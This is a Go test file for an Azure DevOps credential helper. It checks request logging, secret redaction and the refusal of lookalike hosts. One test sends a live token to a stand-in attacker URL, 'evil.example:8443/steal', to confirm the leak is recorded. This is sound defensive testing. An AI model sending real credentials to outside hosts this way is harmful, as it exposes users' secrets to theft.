package lookalike_test

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/ado-guard/git-credential-ado-guard/integration_test/lookalike"
	"github.com/google/go-cmp/cmp"
)

func TestTheRecordTellsWhoAskedWhat(t *testing.T) {
	t.Parallel()
	s := start(t, lookalike.Live)
	secret := s.Token("token", lookalike.Live).Secret()
	get(t, s, profileURL, secret)
	get(t, s, "https://Contoso.visualstudio.com/_apis/connectionData", s.Token("dead", lookalike.Expired).Secret())
	get(t, s, repositoryURL, "")

	type line struct {
		Endpoint                           lookalike.Endpoint
		Host, Organization, Token, User, P string
		Status                             int
	}
	var got []line
	for _, r := range s.Requests() {
		if r.Endpoint != lookalike.Tunnel {
			got = append(got, line{r.Endpoint, r.Host, r.Organization, r.Token, r.User, r.Proto, r.Status})
		}
	}
	want := []line{
		{lookalike.Profile, "vssps.dev.azure.com", "contoso", "token", "alice", "HTTP/2.0", 200},
		{lookalike.Connection, "contoso.visualstudio.com", "contoso", "dead", "alice", "HTTP/2.0", 401},
		{lookalike.Repository, "dev.azure.com", "contoso", "", "", "HTTP/2.0", 401},
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("record (-want +got):\n%s", d)
	}
	if hosts := s.Requests().Carrying("dead").Hosts(); !slices.Equal(hosts, []string{"contoso.visualstudio.com"}) {
		t.Errorf("the dead token was seen by %q", hosts)
	}
	if n := len(s.Requests().At(lookalike.Tunnel)); n != 3 {
		t.Errorf("%d tunnels, want 3", n)
	}
	s.Forget()
	if n := len(s.Requests()); n != 0 {
		t.Errorf("%d requests after Forget", n)
	}
}

func TestNoSecretStandsInTheRecord(t *testing.T) {
	t.Parallel()
	s := start(t, lookalike.Live)
	const odd = "a secret/with+odd=characters"
	s.TokenWithSecret("odd", odd, lookalike.Live)
	secret := s.Token("token", lookalike.Live).Secret()
	jwt := lookalike.NewPAT()
	get(t, s, connectionURL+"?token="+secret, "undeclared-secret", "X-Copy", "it is "+secret, "Cookie", "a="+url.QueryEscape(odd))
	get(t, s, connectionURL, "", "Authorization", "Bearer "+jwt)
	get(t, s, connectionURL, "", "Authorization", "Basic not-base64-but-secret")
	get(t, s, connectionURL, "", "Proxy-Authorization", "Basic b2RkOg==")
	asUser, err := http.NewRequest(http.MethodGet, connectionURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	asUser.SetBasicAuth(secret, "")
	client := s.Client()
	defer client.CloseIdleConnections()
	response, err := client.Do(asUser)
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()

	if tokens := s.Tokens(); len(tokens) != 2 || tokens[0].Name() != "odd" || tokens[1].Name() != "token" {
		t.Errorf("declared: %v", len(tokens))
	}

	printed := fmt.Sprintf("%v %+v", s.Requests(), []lookalike.Request(s.Requests()))
	for _, leak := range []string{secret, odd, url.QueryEscape(odd), "undeclared-secret", jwt, "not-base64-but-secret"} {
		if strings.Contains(printed, leak) {
			t.Errorf("the record shows %q", leak)
		}
	}
	first := s.Requests().At(lookalike.Connection)[0]
	if want := []string{lookalike.UnknownToken, "odd", "token"}; !slices.Equal(first.Seen, want) {
		t.Errorf("seen: %q, want %q", first.Seen, want)
	}
	if !strings.HasSuffix(first.URL, "?token=[token token]") {
		t.Errorf("URL: %s", first.URL)
	}
	if n := len(s.Requests().Carrying("token").At(lookalike.Connection)); n != 2 {
		t.Errorf("%d requests carried the token, want 2: in the URL and as a user name", n)
	}
}

func TestOtherHostsAreRefusedAndRecorded(t *testing.T) {
	t.Parallel()
	s := start(t, lookalike.Live)
	for _, target := range []string{
		"https://github.com/", "https://dev.azure.com:8443/", "https://dev.azure.com./contoso", "https://test.dev.azure.com/",
		"https://visualstudio.com/", "https://a.b.visualstudio.com/", "https://contoso.visualstudio.com.evil.example/",
		"http://dev.azure.com/contoso/_apis/connectionData",
	} {
		s.Forget()
		a, err := try(t, s, target, "secret")
		// A refused CONNECT is the client's error, a refused http:// an answer.
		if err != nil && !strings.Contains(err.Error(), "Forbidden") || err == nil && a.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %v, %v; want it forbidden", target, a.Response, err)
		}
		refused := s.Requests().At(lookalike.Refused)
		parsed, _ := url.Parse(target)
		if len(refused) != 1 || len(s.Requests()) != 1 || strings.TrimSuffix(refused[0].Host, ":443") != parsed.Host {
			t.Errorf("%s is recorded as %v", target, s.Requests())
		}
	}
	if got := s.Requests().Carrying(lookalike.UnknownToken).Hosts(); !slices.Equal(got, []string{"dev.azure.com"}) {
		t.Errorf("the plain request showed its token to %q", got)
	}

	s.Stranger("evil.example:8443")
	if a := get(t, s, "https://evil.example:8443/steal", s.Token("token", lookalike.Live).Secret()); a.StatusCode != 200 || a.genuine() {
		t.Errorf("the stranger answered %s", a.everything())
	}
	if got := s.Requests().Carrying("token").Hosts(); !slices.Equal(got, []string{"evil.example:8443"}) {
		t.Errorf("the token was seen by %q", got)
	}
}

func TestEverythingMayHappenAtOnce(t *testing.T) {
	t.Parallel()
	s := start(t, lookalike.Live)
	secret := s.Token("token", lookalike.Live).Secret()
	var askers sync.WaitGroup
	for i := range 8 {
		askers.Go(func() {
			for range 5 {
				try(t, s, []string{profileURL, connectionURL, repositoryURL, statusURL}[i%4], secret)
			}
		})
		askers.Go(func() {
			s.Token("token", lookalike.Behaviours()[i]).In("contoso", lookalike.Live)
			s.Organization("contoso").Repository("web", fmt.Sprint("more", i)).Commit("main", "file", "text")
			s.Health("Repos", "degraded")
			s.Endpoint(lookalike.Profile).Fault(lookalike.CutOff)
			s.Requests().Carrying("token").Hosts()
			s.Endpoint(lookalike.Profile).Reset()
		})
	}
	askers.Wait()
	if n := len(s.Requests().At(lookalike.Connection)); n != 10 {
		t.Errorf("%d questions to connection, want 10", n)
	}
}
